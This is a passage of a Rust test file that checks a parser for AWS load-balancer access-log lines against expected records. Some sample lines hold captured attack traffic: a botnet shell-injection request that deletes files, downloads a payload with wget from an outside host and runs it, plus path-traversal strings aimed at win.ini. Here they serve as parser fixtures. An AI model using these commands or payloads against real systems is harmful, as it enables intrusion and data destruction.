            request: "--location https://example.com/ HTTP/2.0",
            method: Some("--location"),
            url: Some("https://example.com/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("some-subdomain.domain.com"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1683067958170000), // 2023-05-02T22:52:38.170000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 27 (simnalamburt): 302 `redirect` with `\x5C` in redirect_url, TLSv1.3.
#[test]
fn redirect_302_escaped_backslashes() {
    check(
        r##"https 2023-06-01T12:34:56.123456Z app/myalb/0123456789abcdef 123.123.123.123:12345 10.0.12.34:80 0.001 0.002 0.003 302 302 123 456 "GET https://example.com/ HTTP/2.0" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" " some-subdomain.domain.com" "arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 0 2023-05-02T22:52:38.170000Z "redirect" "https://redirect.example.com?key1=value1&key2=..\x5C..\x5C..\x5Cwindows\x5Cwin.ini" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1685622896123456, // 2023-06-01T12:34:56.123456Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.12.34"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.002),
            response_processing_time: Some(0.003),
            elb_status_code: Some(302),
            target_status_code: Some(302),
            received_bytes: Some(123),
            sent_bytes: Some(456),
            request: "GET https://example.com/ HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36"),
            ssl_cipher: Some("TLS_AES_128_GCM_SHA256"),
            ssl_protocol: Some("TLSv1.3"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("some-subdomain.domain.com"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1683067958170000), // 2023-05-02T22:52:38.170000Z
            actions_executed: Some("redirect"),
            redirect_url: Some(r#"https://redirect.example.com?key1=value1&key2=..\x5C..\x5C..\x5Cwindows\x5Cwin.ini"#),
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 28 (simnalamburt): type h2 with `http://` and HTTP/1.1, TID.
#[test]
fn h2_http_url_with_tid() {
    check(
        r##"h2 2024-05-28T13:34:14.804475Z app/myalb/7bba4eaafdb3bbc6 18.180.78.42:42088 172.31.11.24:80 0.006 0.000 0.000 200 200 115 124 "GET http://alb-example.ap-northeast-1.elb.amazonaws.com:80/ HTTP/1.1" "curl/8.5.0" - - arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:targetgroup/mytg/f8e61ed9c1a92345 "Root=1-6655dd56-7bd889385aff85131b102345" "-" "-" 0 2024-05-28T13:34:14.797000Z "waf,forward" "-" "-" "172.31.11.24:80" "200" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"##,
        AlbRecord {
            kind: "h2",
            time_us: 1716903254804475, // 2024-05-28T13:34:14.804475Z
            elb: "app/myalb/7bba4eaafdb3bbc6",
            client_ip: Some("18.180.78.42"),
            client_port: Some(42088),
            target_ip: Some("172.31.11.24"),
            target_port: Some(80),
            request_processing_time: Some(0.006),
            target_processing_time: Some(0.0),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(115),
            sent_bytes: Some(124),
            request: "GET http://alb-example.ap-northeast-1.elb.amazonaws.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://alb-example.ap-northeast-1.elb.amazonaws.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/8.5.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-1:123456789012:targetgroup/mytg/f8e61ed9c1a92345"),
            trace_id: Some("Root=1-6655dd56-7bd889385aff85131b102345"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1716903254797000), // 2024-05-28T13:34:14.797000Z
            actions_executed: Some("waf,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("172.31.11.24:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 29 (crowdsec): WAF block as 404 `waf,fixed-response`, `%%32%65` URL.
#[test]
fn waf_block_404() {
    check(
        r##"https 2023-04-26T19:53:46.679895Z app/546213e5-apiexamplecom-api-94aa/490d68edf04676fe 192.168.1.13:44740 - -1 -1 -1 404 - 204 167 "GET https://api.example.com:443/%%32%65%%32%65/ HTTP/1.1" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "Root=1-6449814a-01d4cd3e280010e00ac46641" "api.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 0 2023-04-26T19:53:46.678000Z "waf,fixed-response" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1682538826679895, // 2023-04-26T19:53:46.679895Z
            elb: "app/546213e5-apiexamplecom-api-94aa/490d68edf04676fe",
            client_ip: Some("192.168.1.13"),
            client_port: Some(44740),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(404),
            target_status_code: None,
            received_bytes: Some(204),
            sent_bytes: Some(167),
            request: "GET https://api.example.com:443/%%32%65%%32%65/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://api.example.com:443/%%32%65%%32%65/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: None,
            trace_id: Some("Root=1-6449814a-01d4cd3e280010e00ac46641"),
            domain_name: Some("api.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1682538826678000), // 2023-04-26T19:53:46.678000Z
            actions_executed: Some("waf,fixed-response"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 32 (crowdsec): TID + `"m.example.com" "-" "TransformSuccess"`, 33 fields.
#[test]
fn transform_fields_33() {
    check(
        r##"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess""##,
        AlbRecord {
            kind: "https",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.086),
            target_processing_time: Some(0.048),
            response_processing_time: Some(0.037),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(0),
            sent_bytes: Some(57),
            request: "GET https://www.example.com:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://www.example.com:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337281-1d84f3d73c47ec4e58577259"),
            domain_name: Some("www.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("authenticate,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_1234abcd5678ef90"),
            transformed_host: Some("m.example.com"),
            transformed_uri: None,
            request_transform_status: Some("TransformSuccess"),
            field_count: 33,
        },
    );
}

/// Sample line 35 (beats): 460, target set, times -1, 25 fields (2019).
#[test]
fn client_closed_460_25_fields() {
    check(
        r##"http 2019-10-11T15:01:12.376735Z app/filebeat-aws-elb-test/c86a326e7dc14222 77.227.156.41:56398 10.0.0.192:80 -1 -1 -1 460 - 125 0 "GET http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/ HTTP/1.1" "curl/7.58.0" - - arn:aws:elasticloadbalancing:eu-central-1:627959692251:targetgroup/test-lb-instances/8f04c4fe71f5f794 "Root=1-5da09932-2c342a443bfb96249aa50ed7" "-" "-" 0 2019-10-11T15:01:06.657000Z "forward" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1570806072376735, // 2019-10-11T15:01:12.376735Z
            elb: "app/filebeat-aws-elb-test/c86a326e7dc14222",
            client_ip: Some("77.227.156.41"),
            client_port: Some(56398),
            target_ip: Some("10.0.0.192"),
            target_port: Some(80),
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(460),
            target_status_code: None,
            received_bytes: Some(125),
            sent_bytes: Some(0),
            request: "GET http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.58.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:eu-central-1:627959692251:targetgroup/test-lb-instances/8f04c4fe71f5f794"),
            trace_id: Some("Root=1-5da09932-2c342a443bfb96249aa50ed7"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1570806066657000), // 2019-10-11T15:01:06.657000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 25,
        },
    );
}

/// Sample line 36 (beats): 504 after 10 s.
#[test]
fn gateway_timeout_504() {
    check(
        r##"http 2019-10-11T15:01:50.492440Z app/filebeat-aws-elb-test/c86a326e7dc14222 77.227.156.41:56488 10.0.1.107:80 -1 -1 -1 504 - 125 308 "GET http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/ HTTP/1.1" "curl/7.58.0" - - arn:aws:elasticloadbalancing:eu-central-1:627959692251:targetgroup/test-lb-instances/8f04c4fe71f5f794 "Root=1-5da09954-2c342a443bfb96249aa50ed7" "-" "-" 0 2019-10-11T15:01:40.491000Z "forward" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1570806110492440, // 2019-10-11T15:01:50.492440Z
            elb: "app/filebeat-aws-elb-test/c86a326e7dc14222",
            client_ip: Some("77.227.156.41"),
            client_port: Some(56488),
            target_ip: Some("10.0.1.107"),
            target_port: Some(80),
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(504),
            target_status_code: None,
            received_bytes: Some(125),
            sent_bytes: Some(308),
            request: "GET http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://filebeat-aws-elb-test-12030537.eu-central-1.elb.amazonaws.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.58.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:eu-central-1:627959692251:targetgroup/test-lb-instances/8f04c4fe71f5f794"),
            trace_id: Some("Root=1-5da09954-2c342a443bfb96249aa50ed7"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1570806100491000), // 2019-10-11T15:01:40.491000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 25,
        },
    );
}

/// Sample line 37 (beats): 400 with `"- - -"`, 25 fields (2018-06 format).
#[test]
fn request_all_dashes() {
    check(
        r##"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1543616580186641, // 2018-11-30T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(0),
            sent_bytes: Some(0),
            request: "- - -",
            method: None,
            url: None,
            protocol: None,
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1543616568364000), // 2018-11-30T22:22:48.364000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 25,
        },
    );
}

/// Sample line 38 (elastic/integrations): SpaceInUri in URL and redirect_url.
#[test]
fn space_in_uri() {
    check(
        r##"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""##,
        AlbRecord {
            kind: "http",
            time_us: 1652337689051646, // 2022-05-12T06:41:29.051646Z
            elb: "app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e",
            client_ip: Some("67.43.156.20"),
            client_port: Some(41542),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(301),
            target_status_code: None,
            received_bytes: Some(233),
            sent_bytes: Some(390),
            request: "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1",
            method: Some("GET"),
            url: Some("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Hello, world"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: Some("Root=1-627cac19-4c6df30820daa80e3fd72ced"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1652337689051000), // 2022-05-12T06:41:29.051000Z
            actions_executed: Some("redirect"),
            redirect_url: Some("https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"),
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: Some("Acceptable"),
            classification_reason: Some("SpaceInUri"),
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 39 (elastic/integrations): `"- http://...:80-/ "` + TID of zeros.
#[test]
fn malformed_request_path_after_port() {
    check(
        r##"http 2025-05-01T11:24:32.748149Z app/internal-service-alb/abcd1234efgh5678 127.0.0.1:57273 - -1 -1 -1 200 - 0 272 "- http://internal-service-alb.example.com:80-/ " "-" - - - "-" "-" "-" - 2025-05-01T11:24:32.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000"##,
        AlbRecord {
            kind: "http",
            time_us: 1746098672748149, // 2025-05-01T11:24:32.748149Z
            elb: "app/internal-service-alb/abcd1234efgh5678",
            client_ip: Some("127.0.0.1"),
            client_port: Some(57273),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(200),
            target_status_code: None,
            received_bytes: Some(0),
            sent_bytes: Some(272),
            request: "- http://internal-service-alb.example.com:80-/ ",
            method: None,
            url: Some("http://internal-service-alb.example.com:80-/"),
            protocol: None,
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: Some(1746098672720000), // 2025-05-01T11:24:32.720000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_00000000000000000000000000000000"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 40 (goaccess#2557): real unbracketed IPv6 client, 401.
#[test]
fn ipv6_real_client() {
    check(
        r##"h2 2023-09-10T23:55:00.361692Z app/I8YR24BIAN4K/6378464905b0814a 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.0:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding HTTP/2.0" "3.20.0 (Build/1900005469; Android 33; samsung; SM-G781B) okhttp/4.11.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af "Root=1-64fe5754-33ecd7461b3736944677bb97" "api.foo.bar.nl" "session-reused" 11 2023-09-10T23:55:00.358000Z "forward" "-" "-" "10.0.100.2:80" "401" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1694390100361692, // 2023-09-10T23:55:00.361692Z
            elb: "app/I8YR24BIAN4K/6378464905b0814a",
            client_ip: Some("2a02:a33c:4538:1:bcf4:5264:e01c:f215"),
            client_port: Some(50718),
            target_ip: Some("10.0.0.0"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.003),
            response_processing_time: Some(0.0),
            elb_status_code: Some(401),
            target_status_code: Some(401),
            received_bytes: Some(29),
            sent_bytes: Some(805),
            request: "GET https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding HTTP/2.0",
            method: Some("GET"),
            url: Some("https://api.foo.bar.nl:443/api/v1/alerts/me/outstanding"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some(
                "3.20.0 (Build/1900005469; Android 33; samsung; SM-G781B) okhttp/4.11.0",
            ),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some(
                "arn:aws:elasticloadbalancing:eu-west-1:xxx:targetgroup/ApiTa/4adf8897d8a3b7af",
            ),
            trace_id: Some("Root=1-64fe5754-33ecd7461b3736944677bb97"),
            domain_name: Some("api.foo.bar.nl"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(11),
            request_creation_time_us: Some(1694390100358000), // 2023-09-10T23:55:00.358000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.100.2:80"),
            target_status_code_list: Some("401"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 41 (vrl#861): real h2 TLSv1.3 line, rule priority 10160.
#[test]
fn tls13_rule_priority_10160() {
    check(
        r##"h2 2024-05-28T08:12:36.431832Z app/xxxxxx-lb/xxxxxxx 10.10.10.10:13624 1.1.1.1:8000 0.000 0.177 0.000 200 200 961 2071 "GET https://xxx.xx:443/ HTTP/2.0" "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:ap-northeast-1:00000000000:targetgroup/xxxxxxx/fc465292d29 "Root=1-665591f4-15d57af7699b090b59a269b4" "xxxxxx.xx" "arn:aws:acm:ap-northeast-1:0000000000000:certificate/5ceabee6-9244-4331-9690-xxxxxxxxxx" 10160 2024-05-28T08:12:36.254000Z "forward" "-" "-" "172.16.140.164:8000" "200" "-" "-" TID_37acbe0641d1c34287fee137ef3a5286"##,
        AlbRecord {
            kind: "h2",
            time_us: 1716883956431832, // 2024-05-28T08:12:36.431832Z
            elb: "app/xxxxxx-lb/xxxxxxx",
            client_ip: Some("10.10.10.10"),
            client_port: Some(13624),
            target_ip: Some("1.1.1.1"),
            target_port: Some(8000),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.177),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(961),
            sent_bytes: Some(2071),
            request: "GET https://xxx.xx:443/ HTTP/2.0",
            method: Some("GET"),
            url: Some("https://xxx.xx:443/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1"),
            ssl_cipher: Some("TLS_AES_128_GCM_SHA256"),
            ssl_protocol: Some("TLSv1.3"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-1:00000000000:targetgroup/xxxxxxx/fc465292d29"),
            trace_id: Some("Root=1-665591f4-15d57af7699b090b59a269b4"),
            domain_name: Some("xxxxxx.xx"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-1:0000000000000:certificate/5ceabee6-9244-4331-9690-xxxxxxxxxx"),
            matched_rule_priority: Some(10160),
            request_creation_time_us: Some(1716883956254000), // 2024-05-28T08:12:36.254000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("172.16.140.164:8000"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_37acbe0641d1c34287fee137ef3a5286"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 42 (vrl#1479): `TID_... "-" "-" "-"`, 33 fields.
#[test]
fn transform_dashes_real() {
    check(
        r##"https 2025-08-19T21:34:47.383127Z some/alb/target 1.23.45.67:12345 10.20.30.40:8080 0.010 0.005 0.000 200 200 496 340 "GET https://example.com:443/url/path HTTP/1.1" "User/Agent" SSL-CIPHERS TLSv1.2 arn:aws:elasticloadbalancing:us-feast-1:123456789012:targetgroup/target-group-name/some-id "Root=1-12345678-123456789012345678901234" "example.com" "arn:aws:acm:us-best-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 20 2025-08-19T21:34:47.367000Z "some_action,forward" "-" "-" "10.20.30.40:8080" "200" "-" "-" TID_12345678901234567890123456789012 "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1755639287383127, // 2025-08-19T21:34:47.383127Z
            elb: "some/alb/target",
            client_ip: Some("1.23.45.67"),
            client_port: Some(12345),
            target_ip: Some("10.20.30.40"),
            target_port: Some(8080),
            request_processing_time: Some(0.01),
            target_processing_time: Some(0.005),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(496),
            sent_bytes: Some(340),
            request: "GET https://example.com:443/url/path HTTP/1.1",
            method: Some("GET"),
            url: Some("https://example.com:443/url/path"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("User/Agent"),
            ssl_cipher: Some("SSL-CIPHERS"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-feast-1:123456789012:targetgroup/target-group-name/some-id"),
            trace_id: Some("Root=1-12345678-123456789012345678901234"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-best-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(20),
            request_creation_time_us: Some(1755639287367000), // 2025-08-19T21:34:47.367000Z
            actions_executed: Some("some_action,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.20.30.40:8080"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_12345678901234567890123456789012"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 33,
        },
    );
}

/// Sample line 43 (logstash PR 257): ALB HTTP->HTTPS 301, 27 fields.
#[test]
fn alb_redirect_301_27_fields() {
    check(
        r##"http 2020-04-09T23:50:47.074072Z app/OJProdLoadBalancer/278a3c7472bb5054 63.143.42.245:35290 - -1 -1 -1 301 - 429 206 "HEAD http://abc.com:80/packages HTTP/1.1" "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)" - - - "Root=1-5e8fb4d6-88f9ba6fa59e2a9b5ce6a282" "-" "-" 0 2020-04-09T23:50:46.843000Z "redirect" "https://abc.com:443/packages" "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1586476247074072, // 2020-04-09T23:50:47.074072Z
            elb: "app/OJProdLoadBalancer/278a3c7472bb5054",
            client_ip: Some("63.143.42.245"),
            client_port: Some(35290),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(301),
            target_status_code: None,
            received_bytes: Some(429),
            sent_bytes: Some(206),
            request: "HEAD http://abc.com:80/packages HTTP/1.1",
            method: Some("HEAD"),
            url: Some("http://abc.com:80/packages"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some(
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            ),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: Some("Root=1-5e8fb4d6-88f9ba6fa59e2a9b5ce6a282"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1586476246843000), // 2020-04-09T23:50:46.843000Z
            actions_executed: Some("redirect"),
            redirect_url: Some("https://abc.com:443/packages"),
            error_reason: None,
            target_port_list: None,
